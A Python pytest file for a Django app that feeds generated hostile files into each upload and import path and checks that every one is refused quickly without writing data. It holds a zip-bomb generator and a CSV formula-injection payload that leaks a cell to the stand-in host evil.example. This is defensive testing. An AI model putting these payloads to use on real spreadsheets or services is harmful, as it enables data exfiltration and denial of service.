"""A corpus of hostile files, run through every upload and import path.

The files are generated at test time (nothing large is committed): a zip bomb, a CSV over
the upload size, too many rows, too many columns, a row wider than its header, NUL bytes,
UTF-16 and undecodable bytes, formula text, overlong cells, broken XML inside a workbook,
a PNG renamed .xlsx, empty files. The paths: the officers' upload (preview, then
confirmation), the entry screen (each file's text as a value and a note), the whole-plan
import in the admin (preview, then confirmation) and the ``import_plan`` command, and the
import of a city's published summary table in the admin and ``import_summary``.

Each must answer below 500, write no row of any model, and refuse within 2 seconds (the
limit issue 9 sets for a refusal; measured with time.monotonic around the one request).
The limits are the defaults of yumeplan/settings.py.
"""

import codecs
import functools
import io
import time
import zipfile

import openpyxl
import pytest
from django.apps import apps
from django.contrib.sessions.models import Session
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from policies.models import Department

REFUSAL_SECONDS = 2
HEADER = "ID,年度,事業番号,指標項目,実績値,備考\r\n"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


def _workbook_with_sheet(sheet_xml_chunks) -> bytes:
    """A real workbook whose first sheet's XML is replaced by ``sheet_xml_chunks``."""
    book = openpyxl.Workbook()
    book.active.append(["ID"])
    plain = io.BytesIO()
    book.save(plain)
    base = zipfile.ZipFile(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in base.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info, base.read(info))
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            for chunk in sheet_xml_chunks:
                sheet.write(chunk)
    return out.getvalue()


def _sheet(rows, repeat: int):
    yield (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    for _ in range(repeat):
        yield rows
    yield b"</sheetData></worksheet>"


def _row(text: bytes) -> bytes:
    return b'<row><c t="inlineStr"><is><t>' + text + b"</t></is></c></row>"


@functools.cache
def corpus() -> dict[str, tuple[str, bytes]]:
    csv_row = "1,R6,100,利用者数,1,\r\n"
    return {
        # 60 MB of rows in a ~100 KB file: over UPLOAD_MAX_UNPACKED_BYTES (50 MB).
        "zip bomb": ("bomb.xlsx", _workbook_with_sheet(_sheet(_row(b"0") * 20_000, 1_300))),
        "xlsx rows": ("rows.xlsx", _workbook_with_sheet(_sheet(_row(b"1") * 1_000, 51))),
        "broken xml": ("broken.xlsx", _workbook_with_sheet([b"<worksheet><sheetData><row><c>"])),
        "renamed png": ("image.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40),
        "csv renamed xlsx": ("table.xlsx", (HEADER + csv_row).encode()),
        "empty xlsx": ("empty.xlsx", b""),
        "empty csv": ("empty.csv", b""),
        "blank csv": ("blank.csv", b"\r\n \r\n"),
        "huge csv": ("huge.csv", (HEADER + csv_row * 420_000).encode()),
        "csv rows": ("rows.csv", (HEADER + "1,R6\r\n" * 60_000).encode()),
        "wide csv": ("wide.csv", (HEADER + ",".join(["1"] * 500) + "\r\n").encode()),
        "row wider than header": ("shift.csv", (HEADER + "1,R6,100,利用者数,1,234,\r\n").encode()),
        "nul bytes": ("nul.csv", (HEADER + csv_row).encode() + b"\x00\x00" + b"1,\x00"),
        "utf-16": ("utf16.csv", codecs.BOM_UTF16_LE + (HEADER + csv_row).encode("utf-16-le")),
        "undecodable": ("bytes.csv", HEADER.encode() + b"\x80\x81\xff\xfe\x85" * 100),
        "formula text": ("formula.csv", (HEADER + ",".join([FORMULA] * 6) + "\r\n").encode()),
        "overlong cell": ("long.csv", (HEADER + f'1,R6,100,x,1,"{"あ" * 200_000}"\r\n').encode()),
        "unclosed quote": ("quote.csv", (HEADER + '1,R6,100,x,1,"open\r\n').encode()),
        "no header": ("nohead.csv", (csv_row * 3).encode()),
        "wrong extension": ("data.txt", (HEADER + csv_row).encode()),
    }


CASES = sorted(corpus())


def row_counts() -> dict[str, int]:
    """Rows of every model; sessions change as the test client logs in and are left out."""
    return {
        model._meta.label: model._default_manager.count()
        for model in apps.get_models()
        if model is not Session
    }


@pytest.fixture
def world(build_plan, make_user):
    plan = build_plan(projects_per_policy=1, policies=1, published=False)
    department = Department.objects.create(name="A課")
    plan.projects.update(department=department)
    return {
        "plan": plan,
        "officer": make_user("officer", departments=[department]),
        "planner": make_user("planner"),
    }


def timed(call):
    started = time.monotonic()
    response = call()
    elapsed = time.monotonic() - started
    assert elapsed < REFUSAL_SECONDS, f"{elapsed:.2f} s"
    return response


@pytest.mark.parametrize("case", CASES)
def test_officer_upload_refuses_and_writes_nothing(client, world, case):
    name, data = corpus()[case]
    client.force_login(world["officer"])
    before = row_counts()
    response = timed(
        lambda: client.post(
            reverse("admin:indicators_actual_upload"), {"file": SimpleUploadedFile(name, data)}
        )
    )
    assert response.status_code == 200
    preview = response.context.get("preview")
    assert preview is None or not preview.is_valid
    assert response.context["form"].errors or preview.errors
    confirm = client.post(reverse("admin:indicators_actual_upload_confirm"))
    assert confirm.status_code == 302
    assert row_counts() == before


@pytest.mark.parametrize("case", CASES)
def test_entry_screen_refuses_the_text_as_a_value_and_a_note(client, world, case):
    _name, data = corpus()[case]
    text = data[:200_000].decode("utf-8", "replace")
    pk = world["plan"].projects.get().indicators.get().pk
    client.force_login(world["officer"])
    before = row_counts()
    response = timed(
        lambda: client.post(
            f"{reverse('admin:indicators_actual_entry')}?fiscal_year=2023",
            {
                "fiscal_year": 2023,
                "action": "save",
                f"value_{pk}": text or "\x00",
                f"note_{pk}": text,
                f"internal_note_{pk}": text,
                f"version_{pk}": text,
            },
        )
    )
    assert response.status_code in {200, 400}
    assert row_counts() == before


@pytest.mark.parametrize("case", CASES)
def test_whole_plan_import_in_the_admin_refuses_and_writes_nothing(client, world, case):
    name, data = corpus()[case]
    client.force_login(world["planner"])
    before = row_counts()
    response = timed(
        lambda: client.post(
            reverse("admin:policies_plan_import"), {"file": SimpleUploadedFile(name, data)}
        )
    )
    assert response.status_code == 200
    assert response.context["form"].errors or response.context.get("errors")
    confirm = client.post(reverse("admin:policies_plan_import_confirm"))
    assert confirm.status_code == 302
    assert row_counts() == before


@pytest.mark.parametrize("case", CASES)
def test_import_plan_command_refuses_and_writes_nothing(world, tmp_path, case):
    name, data = corpus()[case]
    path = tmp_path / name
    path.write_bytes(data)
    before = row_counts()

    def run():
        with pytest.raises(CommandError) as error:
            call_command("import_plan", str(path), stdout=io.StringIO())
        return error.value

    message = str(timed(run))
    assert "取り込めませんでした" in message or "読めません" in message
    assert row_counts() == before


@pytest.mark.parametrize("case", CASES)
def test_summary_import_in_the_admin_refuses_and_writes_nothing(client, world, case):
    name, data = corpus()[case]
    client.force_login(world["planner"])
    before = row_counts()
    options = {"slug": "fuzz", "name": "ファズ", "threshold": "0.95"}
    response = timed(
        lambda: client.post(
            reverse("admin:policies_plan_summary"),
            {**options, "file": SimpleUploadedFile(name, data)},
        )
    )
    assert response.status_code == 200
    assert response.context["form"].errors or response.context.get("errors")
    confirm = client.post(reverse("admin:policies_plan_summary_confirm"), options)
    assert confirm.status_code < 500
    assert row_counts() == before


@pytest.mark.parametrize("case", CASES)
def test_import_summary_command_refuses_and_writes_nothing(world, tmp_path, case):
    name, data = corpus()[case]
    path = tmp_path / name
    path.write_bytes(data)
    before = row_counts()

    def run():
        with pytest.raises(CommandError):
            call_command(
                "import_summary",
                str(path),
                "--slug",
                "fuzz",
                "--name",
                "ファズ",
                stdout=io.StringIO(),
                stderr=io.StringIO(),
            )

    timed(run)
    assert row_counts() == before
